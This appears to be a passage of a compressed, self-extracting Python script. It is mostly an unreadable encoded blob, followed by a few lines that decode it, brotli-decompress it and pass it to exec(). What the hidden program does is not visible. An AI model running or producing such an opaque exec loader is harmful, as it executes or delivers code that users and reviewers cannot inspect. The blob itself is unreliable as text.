'0ƍy3jVEE=\٥40Õ|b$ԉʥ5r<\}խ|Qkև{O<|[ŀ)5Tk-t,U`Zh}ܨN/i)vde<|T0p_Fρ\PR@A7Ζz,Z֍r!P9i^/|4UnwCS6JmlNlt30pf c3a8LY8>/Plh6	mLgxZDmۚܓ0w
fd"49VԬDo>}X1$=Ljw$a|X޹̯u]\Bv4kRaIޯQkVύ>/Tj3wuC6Wé/rna̸Zl.̒`R4Sm.w~T[9AV	)MDn`?])ݩQ2Oy9r	x@V^uڧYlE5%\&<Wۤ6ןԎ^)aECȎGӰx&[EK"K
\^7Pޫ3`ZX
Jr&ic}q;ޝQ19Ͷ~*ڽ(@|~1!j>V"S<b>@8Y{q,$ux[C'D!uadl+:C"dVv1̘5dĤkīP`GH<wO4&@؛J>b+݆Bɛ0J^c
dl´H(N%ǤS<Uқ(Ky֨ɔ#1@dƹM7׋4'-ռp<WNB1		F֐E2e	dőyEJHݍ#(f>ʺ{{G0;u39*Ucrǔuо1p;j}J7K֑X(&Jam{ʬ,^ H	yTޠsQ1|!L}A%,]aς=)[wt._^
cDp0fCnr0gAiW!tQqQdBvH8<iħHp"Ky*X[=fYU|wJsĵET
0NDŸZ:;ZНkpCE[_C LX ێ9rzZX}ֹ`m$EgqΎ{'^Pe@ňw}!W:eǿW`7\=16"e)[HٓdmN48x`;SB+t8Gu>)fM4GZ,Ʉfړlʈ9E>5ٿ\"~ԳSS_DQD||?oסOb6u}.\Kb%Ibjdފxv	OiH7)
H:"Wىgx΃m*Ps_S:nr7]2TH)5!)H5޻$/T/fhIyr(8XR07&~ݥ
.y!ǬF~ELh5fOݚ4\Tr.zD.ļ7RvhO7}F_܄kǶfӚAd8uX
)KtMZw~ }ږWcE+v%vN7Г=[,-Qҗ
r3z5Y"<QE-qͩ}?XQЗZP;X0zqDOޚWboѣ]?Sq}ˤޥ׮({%8\l< qiU*i^U#SC޳X79T^xǖWs:lD5=qitgm	dd&؅	;ٱUC5%CgnWH|^QG
7xgE#Fd,i
ID8{ȐuDJv4ݵzU{~ܮcVd]i{AVcNխ΄y(-po~]\ 
Tj!jW44^.ֳ]ٟdy{n{B`U2tޚQ+TL>AbRސh^
b@MҸ$+6~c8ܹ1T	jZneM5)ӂOvJԉmu)`֠	
ZӔ!^koIyB=7z";^:}g(՘WfxNR"@gʴ\1sf|Gsŵ/*
Ja5oG&\̯jg=fUpQ]kmC>gs5N)}_UθW(lTŘ/enKHߦtN.Xv['!͉ЭXİHZ+*[!AQ'eörc<~l!'/;zޙPNvB$<,Kaڔߐ׌۬DJa9ĉh*&\ĸǮyh("NܾB;>.М*pX/4TjfSͬZheyz-Z&{Ċ6zzcQGL\f@VKkZ!}̲qgͯZZUIc&Yخl1{2k+~-"w9	L-b(T'p)Ey'**~ۛe.ΎC?/J9ZнӴF`ͮTw%Ui\)M_dgDVHCUdSq}r(0F'J}tk,EPٱ;qbXOMrA?h8F]zߒE|߁+ڸtm\NE[ַ	;u+Ԇ#S&Z>O)\LZށvv[aWZ@2d,fV)xi5mm;i">ޏhЂzW1)[ܻ0	3Ǆ)ިn9lֱz|+Ul&I5K<EN̎шB4nup3޿g5Oĝ\:[̩8&$2+xuM=ǈ֠H/vV~WxI{7 BmOjΆ8\cs/P0&S#G v@e5TޱHE7cc	_Y4_N(m[LDRGJ I]k4fy:wK!Vu$t3֪H/8!"`^HJ6	u=oÖKQڍ`ORz-+:ta kv{0Zޖ?ڎ.]FԚ^7COy[jI.:q֦~V+RLF#]kHߊ(Wҭa%\R$r`"].ؗ6B ЍC^|WhQ'Z9ܨ'E9#)[Pm;i	$Zݾ!{>[ vƉ9/2R5ێY/Ӂya'DW&k
pmfnj֔B^i!Ϊ5^dʩ%UJE|EWKJqP^u"HXΥݓ`.MM(IϡO.],mޠǐʸNmR~=-N+ׄۼk[O-:-ĿϯɊt"Mӂe,mz;Ӭ"`
Lձi5R_JN^zts7ר|ci
{X""$p>{?$ȱ.tW_ϫ{s%=ҥkދ0FD,e|ɩeC|Zxgq>7G+Y|j;vKY`R99ooZJi@R+?~S4 ,#*'A	BǙ\^p#Yڟ52eq0Li|I	;0P?60Ph؟ۇoԃ8Y>"=SPu%Xe6&w'G
ǫܥppOҭߔ'")3"v7ۯ6dUZbAcG AJǲń);ɏ= <%5̍0hh#PjϽ)l<K%P?ǠtTR:ɤ-Sߣ.mBat9gC-
iz\NRW8U$c'C[c~JoD'4$(>͹p~5Q`SL*)Ϲ|n7Xo?¯Sؐ)HSTmZ	;x!NQSں0~	3Kɱfߓ(x۪[.ua-ʼa1/=r&\`-mG@̑܎-M~Dߤw>sB.U%/¶aVhJm@zVmsW1?ݖ3NvKy-݋VJ7JpsUisqAEO3'ZHI
mAw#4%ueta %Nmq2ifQfd+DZhpb-(^%AW<"0ۈCeڌ:ʬNQ	`pǝtF3sy_6P:D\>&e0mgLympxɻ%0EO8)n1	2xm)>%Ƕ#_܍?;DT+Լq^ϰ|͔y2;ݚe:m&>&ͬVT	Z[ǵː<+&ߑ:;TLh>.iŞjLyKśhi۸A0t0+6-ȿ2eZ0Zנ;..T:C4۝ORg\.XisdG̀349^yg2!ٍh_
"rpNV0!!qH2/G֡9OܘvlW	B¨{P G&SoVdsKMXR܇à;UMCX:oE޳Po0fwUM:8FV^ ]`@C\l%6{n@zHF(5zzу*j>cʨ6crf\k_5ޯ=Bkӗua:~fȂ.%,"e(caQ[lZCҀMjT3@>:F)%x҅җ3eU>_D[Ŀg^O'ANqL\~rqOr;5b!M{7$%z^6K-;aiQk͙"|yY7b'(8H3^ڿ{Y~,
׋*)YL_pLK:xn>մmu3]tyv)҉uY+hQl=~k@թIFS3Ng<ԏ:0}*^e^hd[na	͟U!*Uq|"2!5ov)3"i?DÌіOJVUML6{n37b0N<7,;ju^
A62õM]ۊ	֢׵݅e6Y[ʈь?m%j8_lWόrlյވ,3C"gY2´ğh &$F@|K@cܻbԘ
pZpRU2}c κdtfݐ8_oY
5Vƙ}P9Pm\{ntsPdXL3qm2X}c%2z&oe4{$ī=d@.
<u~Ҿ0=yh ~čRba,	l8)î}SUVi+E]WC8ȗ@N=t@dkԃ@*vj.|R{OUD3ߊ.	c}v+qZj0xE8#:?@66.FnrِCQĨs0R ԻN$B$CT6ʀbQrUҋ7oT&=x^; f4PC|yݴz
KFT|1	4MADԋ'8w!2֢g=!϶g:ey4>й"+1~ߢ?o|ucs"ϸYgUɀDx*G8S-<8Mߘ}aXP+	W(vn:GF}'lؑ;@o/?n׬*$)=,PhIun4GБ>fȷR.N?}FĊ«8ڨ[v- nKx/\caPvگw^_qa*gIf?=4SiDjHVP/ЎDQ~XI#'oZMނO%pϤթqyZ֎(1CzT095|ګQ̌}+RE3l;k˷sjg	u|o2Ƒ7|n2N%M7>y"=`lK_E"V;zfVUIp_:ơ45|f2q9RZc4.Ģ)bލNtkEvڠ_PWl)e|zeDmA,M$LF
ʴ>å`o χqSqI"LpAi?mg!x[CxM!BqC#E?IcO͊UDOp`õq]ӽ#3؛k	zӹ0(sF;E[JvUQ۩<q\63!6~MY.''Nn^Ik`FgdѪ]WY3H1.hÓם|mP/a,Pf!q@Suhv޾^9mǎ >D#CwW :`!`$2j>N<C\)^:E%q3;ͫUXzWpfy!'))ɓPMp=SIa/|іo^/ڰp4c̍o[ }'e^wG@/6"Gk{2!|_[Х4m?mϭG
'j-N)mDՄ3KXF$=A<vWjN:|nn%4م98**شVxYGNY݅ttؽXEuob)W8ZtXx©ѻϷ<4Q	s\qȮG{ԢdOa^܍S۶	$Hͅkڋ+-rkZrn͚X>ذ1.ĥ}Ĺ$VD5
*I)ި/.~HQ{91QIj!z͎OGf|H	(ӳ`ʬ@y$Ш(e/ogǢ%M`t_
>Y/$Bu*
QΦPS#U73Qͥnw~[aV*J8tQ{*ʶ8toWHYNݜGϕA1=IXOb|ݢT%4' ؆΋֥I#yŲ<EnحAc*&(ڰUCD8a+)%ܺ"Y9AX{εs5n؁vGuOU7ˮAʝD{+KڐҸ:&\aǻdD<Xރ~4ƎEhc@$ӄr#0eӏpPP(m!fɼujШn`NcLN`3m6ޞ9(}HpŝzSڻɠA[ƭf{ņܻR)XBϤx1'ZLM]o(c/7@u(J5vOҘY`s0kB)f֧4'efhD²P$W
aF@-݈O3I=ͤ <Bs-'RDGt5U;5SIw(T{XN1\J+.}(pɹq=4CTfb1AikYی&כ:}saܔ-	1t͊=yR.U`oM\!7Ry6]HMڸŎṕ{/Op5}GmYߝW;YZ<ǦFyc4&BCgIWkyW+=l$x`բ+@ģSt\8ڜ7<cGîO6mv6BKNMVSaՈѵ67QkG*w!y$QC~V ШGǞ_CӄN*&QTnFqiXF&h	-:\֩T;RoiK:	qq/8e=}L"9
z/ԳKF[t4f0Jޯ7MEmsxe	fБvBdaÔ	Wԡ\meO`\sVQw*XDzu]oE`3;_/Cʘ)/FwȀX0ۯA	Rl?+/aCQAJ1kѵafWnނexԿG$MPO{џc?E!֧rŎ f6XncЩNOր4K`fJޓlp15f8̕U_=ĺz"ؗ/\S~0g9DV?qnT{޵_eǯr.21>i^tR~bJ,(DS5[`ğC__-Uo3ʄU7)\p&!6TCD X=:>߰
F,(Mݜʔhݠ/hbxТAuuEwl24К|)&B;DMϏETKܲɣqmMk2"1j"r%R^$'11g-~Օ~h!%QfƯkX`WEe
<dxAJ,J_bh|!]cǥ(ţp81Sћi
bCt=*WW&jKF3XjsF
CC|,	/4{ i&ŠR,3A1}7A296'y3h8xVŃDK)ba*>g3a)P9"_u]zJ(OJ|W[.#L~]NC{,HC":Fr9P9̓/KzġqݤK4Gd8!%%IR\hJFRWjD)>ޱEO
r/Fr	yao`vhHA@lCgzNzBݨk>&3@]FRx<9-|8ˈ\+ݕEVΌ+lxJ>,AgфOC-n4AHsjYWvdҞ\՟EJdi/lP^iRs_>=zëvJx)ބmJRr	(< 	LA0ΘğX@OIB>/M&(_ϛJP+]2֢rd'-GtIftx	{} /Βm#̈́SKx"No(̵UR7.LϩB.]cvhOw-Aj-X_F1X 1A(/Z]{̒=Вz9.(w))̈́>+ITu3iexr3I`(Pd@)H۔
U}K./(3l^p\o1v0D*VY(ШmǙ5@ȻSK_Ǘ78w٭~.DÍ05M-g9ro]Rc=ŬFH]U}Φ2nϏ`	 -@5@2 [VON،VR-e0ţlY`Q
6W;D.@yv1ԥeYp@H1/ݙ -^qeՁ>;)G8סq[zamƩխhݯC5¦%oSVQ<4`-DYeZׅwy?ѫr׮$&\{,uы*9˓Nw>YK5WW&̘E[YZWuZV1p9Cț+b8(£$D1ʥL`:.{}^ݝ/P[}b
W94Iƞ0,wόQٰͥ*Ρky\;<\L2}|EU$+ڒ\bAJ2hmhm:Z/^kSS!&dj|àm%9[J,-G-X5Ɗ"K&͸8|a`Kfz\-&z=ʾ(?O&C7>UV7O3۷	mkEߚVq_~o$RXǚ!ÓP6>R/PwGϳJ
Lѻ۬Nhם_7(5^OSp	afÇTfFQ2z:nk7S<TUV_۸C؞w7rj_Rޣ}uy{F2`ӉBAYYg0޼$R]Gǖ|"EB)~,uy|QnX>Ll^Y5֎7V7Ξ<F=RˠȟǰqG.l
HLd|tKeUpQ?E.n8(,γdҋu2s23t$-k=֞3IA۹Hj|q.mU0?3'V76=§gRj4Gu
?lv[.	PTŉPrq-ÅMmĊNreοmؿ},0s.OusJ`j?%[^8R%(_5`g0%0CEgt2*?v՜,Q.ѥwhg4\s;v,I=yk d/yEcq}Eɂ")!@ju[Gˉ3?qʋ-g;3h'Pmj8=kg"ȨQmFNv~hFUc[q5
y7ɭֹ}͈{3tTV9bH}n,ѱ}F9	%0=š.#SBہZȻԙ;	LtH"ݝ, |v˔i_i1n?T>mc}@nxX7Fi۝%GYe*Gj	c$e7T˧[B
0ˢʥD9q2o*kfЀ?3α	Mjm?
*)Aۄ39OכݟhF_fH@u7)þrKhfSsD	=RϘ<3^51٠reX<8܍foPrKOWEϳg"+аukŃ&\d- :p1N;$8BWG;uB'NOkvg]ح|͂1ÜYS\r>QǶq=6u@5rxuhtF,EBGrFķ^y(I6u}U6̃D_JM}iϺv/*VteeewE$%Bo~B_BS~ɫjC3A[dO3[aaUXJ^y\1u!\jª'B1ۥ3Gc'(ГэU3Cͩ+*:&DiPENa0˯FV3S S޸| үn){GD#<Q-*5 lKs9MW	\ʚLI'd'zo->B+|"^0LuکԲ/Ȉ7t:r4jO]݂con$e^*EfP3.WΉwϬ9e:ё`)dN|Z{j#!L5gI~. 3rA	DfI	mwrKpMO84 ;t[)o_3P4@^=Eƚ	w$Yz`
q`xAel9p#OBM~]ڒՐ5<2`6LbOCv?_֬؄wC|os@QX;cXrM)>uT1-zJgJk:V*@+G	LS34 *yn<z`'sz/OkToƉc.A,CĠ	io~(.G*[[Kv}ٰΒٔ&,";U|ʭřzW՝H@&\6:@ll3j(ވ+{+;η*l԰5Ÿ]=x$duxZtYG=5TjDnJ:ƟJ]HA]kT-EEx96уAjiͯ:nze
P{_nչ5"s'H=A&7Hf>EqEߴ[mHփ[f&\rZ<XƁ22îH8̆&7̻HJ!U}JWi0ԁߺҞN+|Wӫ d\NA/mEB2$xMi׋ BvUl-tַ6Z\f~\-͡|EuWϯcؚ>
O;8*
{8Š3??5`]}Xs{֞ڍeoWf#6I;Ձc/oys85yYV#	-Y!A&]tYC˫1cDýz$X+TUCD|-8*7׆KәiiVjxUScy{?pAz,nR=Iȏv}Q(qp%DϪ2 ̊|f"BZOA֕M7&axԵY;ã\ϖ&-^^lCujJb-ZAAHȔ׹R!uy1e`^P/_ܐ(.?dN̅8"
awˍ	;R=tWfDʂ;MW>}Qɤc$Ų~މsxѠiƜϐxcЖs'{U[^oǱE}(v#cPm׬0# .s{J-GąŹ*n3QE9)~Ǎ܉'ݙ#zԜsǹq]<ѝ9c)yʄ'o{\QyvTPIXymFHіo4yvlSir`?at!ݯ5L^ފspEjc̵R͌6ϤiK8c{[?DixO"wʷF6RV8)C9DLQUrzekۥmw3`ƭݬzC$#}Ũ"!fFY1da{#IC{'Xm1%*0i{?^t49	msWPzO47P@,:vɱ&"HDQx[ʸ9{R,p<-gC8DAΛl5~˺EFJə7~Bԥ@(c:SX:ܒ=Bf ل9^fȦIvĭZKYn>J͇x҇4ŝLҧ)O347Y.Qz]׫fGǺLP+VJqnGTGh)2~T05\#~,XUǎLc5[*D$DF[aCBLT?8 XΪ
lTDG{z;j{{WjC2OjԻ(DNP~#?}af}~ʼly0/g|2٪ǔa\Ǣmhoۿ"re>et?	/wc@`<:pB Hyz&}]j%
;Չkͪ3i܉	*g|*	F86%ݨ'IHq,*Ț0NoV?)i aYNfק`%J c(dkIՙ ѥ(k)L<xvׅOĆ Y<ѹڎ#4^q"<tuT?d@3pbX,4/XܳUG)o6p:	:apAfnWcUA#ɨcu/cȪS+Cpk^G	d%6_fҨD>Z wz2W7,@Ģ?=tHos7&x*3ȀwN~NZ)Bt{ʃn.(E3aY{܉Tנت-C+7R>3_$гZ^8,׭,fTe#Yn4]>@1CRP[٫R5.܇]}D8Ԏ^eSP Фw[1_EWŔ9S=B(\Q-o/Aŕy-ybf^LP6+cf,Ҍ
i`tBMS~g؃M-	U"{@'ώZV@;ʥŖ[)w#CX#^ۗ}DG҅j5yɔL'Cuޠh
ߛGjc	vԜƞk&º{t*fPޒ1LLdi˓Sիg!Rг\OF}Y׹G6EYSI8te@դĻ7YZ{
Íqy4
b>,ngU}hbV^&`ŁMp.ӅXPl]{GƩr+
fZoUgKl?OƏi)HYb2s0xz~PM~qPwczlcRwڼR@"K9SXA9`Y81GhHYШ;6a6Pkӕȱ8gEc#XXKnEZ:ug1,(}rdֳDKRK]5nzXBKވ]-'VKe,^mRl[-X͙o>;`6ƫ@,%\O|D{JTGcqN#E>%ިIKFNR p1@lӦ.^l5,۰zP<7Y-xih|!z_Ԟ,\ąݳ|_vAeKua9EKŁ'#ȄK @ѼZrEa<?c*yIQ>)қ}&~/d}|ż<4Z>ݝBcʁ_g^nte~ߕS]{~@ӆv6m&;Y0(ڷ[#9\cҐMQsZdxs$ڧT	Wp$ayӴ4,W,"@LKc~#φ}yѠvgnQs$9!6؊nI~w5BvG%5^ٚDۓdb29Ά+L=ͨa7uQP#xp yPdh
R/شQN0.6|_RY%Tg09X̵_ Z&}?&E9pƖ>n86j1(J}%Ӑ>!^L,ɪ2UJQҴJ}BLUPbDmQܗd>1UJ4MhkQ,tJv&-~;=Cݮ`6ˋ։^{ ;bWml|2h^yאЯ 	+ޓ^ygÓ	Y!sK¬6vٱd"s,M|^1ς0
b%(>
i5	^WP{vh:?[z8VC
d Xf̬\FNgv#ٍ)(G^VXmxGûߚ6vߞax"9\ډ5O/}ߍ_VCF1UFsΚZ
UOw&0^mNOdQ@3`KQ&/oC·طRy
_Z;[: ܏ÆP/J|l5o	ҀȐ"Ɯ5/I'\Ercʹq*@DZBrH]DUJuPefӳḊLMeoNW)G6$wADܠQbǎԛR^Y[ltǑ\ԡc'[+Z&M#<!z`(Hs,]6E/~Q2(ԃ#p^kiS_ܣxYFMH)^}6F)>s@km	Ǳ.Kz
˾x.2P.{E:v*mGˊ5'Ŝ+PY`Xq1qRթN)zƖ%^І8ݚ_r#wQ|PRȘ@bj03s&rpҷ3ξɉ%D`wǈC|V!|/FA6Da]؉VI>p9S Ȃ7ŖwxZPފ$Gmǲ=@Q@uͯLx$CmΞr4:Qho6H3=h{ZٴـYìs>O(F}8Tbk}2)ӿ8o
Cm
׼&ۣ2HXAhQι˘ICZoǟ-+fw6/wة` HHݽ7axY**"`ğl̕RWְ/nEgN*4g	PEK:ra^+??s2g$AZ*S}jP0ًiI4 wۯݐ$͸!WЀ"I9/Օ_ƆAھiØ/@E1AGޥCzzr(zg?jN0[M?pгYˤ%X<X޼ʗMN>ΆG<ҋڣl57ċkh/qH65vǋϛx-LI\Z^ڈͯz&&JwۆUzF=Ο6ڵjݲֲ4ô95?՘ϬR]uY~ߣr<	8ick~6TǾw1W޷+?";J܃Y6wʕq9tqŁcz6Svھ}}Ȉ~M	*Ė2Xl6(9;F$RfkI:hZDpD<CAA|zq.vO\ܫ@%+mj07ҽ,ײ(8Γ45mȂFX|IO& 0YVHe˛n#t	01~5$K
_x@BZ$Y|b''f(AWh+8d%ֿD7]U=b7	`	1CɓF<[:Pܬi7?#gސb.a-2֥4׾#h~ù	5EXԽ'^xXsAjdX=aH^gAK"SgKOF9ٓm=`{d˔|oҝoٺFtA{ydDɶB?P܎=H9i	қHՃ9҄vRk2$̛%]6bbOu54*ٝQj&±}%P&Py΃6.yY(6I5iOagG&Xd-1=V^P$V`0ē<'+ъ:Ѫɇt%̸7BLOͷ(+@יpb׸5YBS@7R00,MGck1~7
0כggܦA
a<&SkXJ
mhFh5lDjeT*tx6
(ToNyj
sбA/I6Hץbx,!U۲ƋiLм0]kʄM_`|T;lBƅ[[[06}n`War8MNޞ6^r:&qˌW-ɮa&VJjd/כ\#ЂU;CW^3Q΃]?
W0!nʺy$9qĭ1ˋ(>$.d45WCܨ?Agu8ԅ	нHOCܿhHCLxd8"QҲ;h$nx*T.ôuPoF;ҫ:lOktݚI˓vATAV88l)٩Tޗޟ2LľǑ*w?r(?A/(K}l?xL6:6aUԨfU{'>01pn])B8|є,/ߪ9ʍ{Eqs[YvIMK1dӦ@]H!0ngU!@\c?>ZK~SB[+(t82B3[¡Րآ2D?ӿ!ԫ'4JiSV"[KARۜQi²~]K@x9wx^/,g+0T:XhvZOɔھhk}\7nu͕tFC/K|}f1j/VzL9
rW4Gل2d;($x+sQўх><sUٽzhcv@A:UxmÛw:-n/X}XN6
uf)4I_nSIǟ$dQnӳ6#ZʴxlEfǴk:78`9	^ݖB.m«?۸"U؝ƺ|:<gLVWR͌Mo&<5ِoǨwf$%ܘ߬sƖVׇ[\f;вRMXH]+.L.pRĎR҉[|s;U+`U4)*ksWΞUkSϞ³/͙S0ܿ4>2Oa
/^r!ׄ0ָp&YRғʈhWԿ/4%@,v|ٸH׫poD[7lA>?bٶ*[goA7U~&&XXƼymşj"K0Rވ=Rwz(|gҮ7M~&m\Kjpɀ6Tj1{P8Lqa aIQ#LxU
,EiTם0g#u]u _i,jPm]y<sPX~%L6V?T+r9ßyϵxw;(Zkߙ.IȘ	X^fcW[RƘ'=9:Ŋdj81Q"^7'k:q|7,s=ʃ+>0}UĥIR%]oQw ׾bi>l߀cތx8ETNvP|MRPzZ#KWިƳ[XQ<OJ>!Oi+PF|2GOCǾ@6˲T-<)/{U
>jNSlcʈ+@'""":
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26412)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
